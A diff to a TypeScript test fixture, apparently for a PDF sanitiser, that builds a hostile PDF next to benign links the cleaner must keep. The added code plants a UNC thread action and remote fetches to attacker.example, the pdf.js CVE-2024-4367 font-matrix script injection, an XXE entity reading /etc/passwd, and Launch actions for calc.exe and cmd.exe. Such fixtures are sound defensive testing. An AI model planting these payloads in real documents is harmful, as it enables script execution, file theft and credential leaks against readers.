@@ -4,12 +4,14 @@
  * scripts sit inside compressed streams, plus the links and text it must keep.
  */
 import {
+  PDFDict,
   PDFDocument,
   PDFName,
+  PDFRawStream,
   PDFString,
   rgb,
   StandardFonts,
-  type PDFDict,
+  type PDFObject,
   type PDFRef,
 } from '@cantoo/pdf-lib';
 
@@ -51,6 +53,103 @@ export async function hostilePdf(): Promise<Uint8Array> {
   ];
   first.node.set(PDFName.of('Annots'), ctx.obj(annots));
   // Object streams: the scripts above end up inside compressed streams.
+  return doc.save({ useObjectStreams: true });
+}
+
+/**
+ * What acts when the file is merely opened, or reaches outside it, in the shapes the issue's
+ * outside checks found surviving a deny-list: a Thread open action aimed at a UNC share, a
+ * catalog base URI, images fetched from elsewhere, a font matrix carrying a string (pdf.js
+ * CVE-2024-4367), XMP metadata declaring entities, a print-on-open chained behind a page
+ * jump; plus an inherited page-tree action, a reference XObject and a stray launch. Beside
+ * them what a disarmed file keeps: an internal link, an outline entry, page-turn buttons,
+ * a web link and clean page metadata. Saved with object streams.
+ */
+export async function actsOnOpenPdf(jpeg: Uint8Array): Promise<Uint8Array> {
+  const doc = await PDFDocument.create();
+  const font = await doc.embedFont(StandardFonts.Helvetica);
+  const image = await doc.embedJpg(jpeg);
+  const first = doc.addPage([400, 400]);
+  first.drawText('Invoice 2024-117', { x: 40, y: 300, size: 14, font });
+  first.drawImage(image, { x: 40, y: 40, width: 80, height: 60 });
+  const second = doc.addPage([400, 400]);
+  second.drawText('Terms and conditions', { x: 40, y: 300, size: 14, font });
+  await doc.flush();
+  const ctx = doc.context;
+  const obj = (value: Record<string, unknown>) => ctx.obj(value as never) as unknown as PDFDict;
+  const ref = (value: PDFObject): PDFRef => ctx.register(value);
+  // PDFString.of writes its text as is: backslashes and parentheses are escaped here.
+  const str = (text: string) => PDFString.of(text.replace(/[\\()]/g, '\\$&'));
+  const set = (dict: PDFDict, key: string, value: unknown) => dict.set(PDFName.of(key), value as never);
+
+  // On open: jump to page 2, then print (a chain), and a second document-level trip outside.
+  set(
+    doc.catalog,
+    'OpenAction',
+    obj({ S: 'GoTo', D: [second.ref, 'Fit'], Next: { S: 'Named', N: 'Print' } }),
+  );
+  set(doc.catalog, 'URI', obj({ Base: str('https://tracker.example/') }));
+  set(doc.catalog, 'Collection', obj({ Type: 'Collection' }));
+  // An inherited action: on the page-tree node every page inherits from.
+  set(
+    doc.catalog.Pages(),
+    'AA',
+    obj({ O: { S: 'Thread', F: str('\\\\attacker.example\\share\\x.pdf'), D: 0 } }),
+  );
+  // The image's data is fetched from a URL on render; the font's matrix is a script.
+  set(
+    (ctx.lookup(image.ref) as PDFRawStream).dict,
+    'F',
+    obj({ FS: 'URL', F: str('https://attacker.example/pixel.jpg') }),
+  );
+  set(
+    ctx.lookup(font.ref, PDFDict),
+    'FontMatrix',
+    ctx.obj([1, 0, 0, 1, 0, str('1); alert(document.domain')] as never),
+  );
+  // A reference XObject drawing a page of another file; a launch where no reader looks.
+  const reference = ctx.stream('', {
+    Type: 'XObject',
+    Subtype: 'Form',
+    BBox: [0, 0, 10, 10],
+    Ref: { F: str('\\\\attacker.example\\doc.pdf'), Page: 0 },
+  });
+  const resources = first.node.Resources()!;
+  set(resources.lookup(PDFName.of('XObject'), PDFDict), 'Ref0', ref(reference));
+  set(first.node, 'PieceInfo', obj({ Stray: { S: 'Launch', F: str('calc.exe') } }));
+  // XMP metadata declaring an external entity; clean XMP on page 2 stays.
+  const xxe =
+    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' +
+    '<x:xmpmeta xmlns:x="adobe:ns:meta/">&xxe;</x:xmpmeta>';
+  set(doc.catalog, 'Metadata', ref(ctx.stream(xxe, { Type: 'Metadata', Subtype: 'XML' })));
+  const cleanXmp = '<?xml version="1.0"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><page/></x:xmpmeta>';
+  set(second.node, 'Metadata', ref(ctx.flateStream(cleanXmp, { Type: 'Metadata', Subtype: 'XML' })));
+
+  // Links: kept — inside the document, page turns, the web; taken out — a remote file, a thread.
+  const link = (action: Record<string, unknown>, extra: Record<string, unknown> = {}) =>
+    ref(obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 100, 20], A: action, ...extra }));
+  set(
+    first.node,
+    'Annots',
+    ctx.obj([
+      link({ S: 'GoTo', D: [second.ref, 'Fit'] }),
+      link({ S: 'Named', N: 'NextPage' }),
+      link({ S: 'URI', URI: str('https://example.org/terms') }),
+      link({ S: 'GoToR', F: str('\\\\attacker.example\\share\\a.pdf'), D: [0, 'Fit'] }),
+      link({ S: 'Thread', F: { FS: 'URL', F: str('https://attacker.example/thread') }, D: 0 }),
+      link({ S: 'GoTo', D: [second.ref, 'Fit'] }, { PA: { S: 'Launch', F: str('cmd.exe') } }),
+      ref(obj({ Type: 'Annot', Subtype: 'Sound', Rect: [0, 0, 10, 10] })),
+      ref(obj({ Type: 'Annot', Subtype: 'Projection', Rect: [0, 0, 10, 10] })),
+    ] as never),
+  );
+  // An outline of one entry that goes to page 2.
+  const outlines = obj({ Type: 'Outlines', Count: 1 });
+  const outlinesRef = ref(outlines);
+  const item = obj({ Title: str('Terms'), Parent: outlinesRef, A: { S: 'GoTo', D: [second.ref, 'Fit'] } });
+  const itemRef = ref(item);
+  set(outlines, 'First', itemRef);
+  set(outlines, 'Last', itemRef);
+  set(doc.catalog, 'Outlines', outlinesRef);
   return doc.save({ useObjectStreams: true });
 }
 
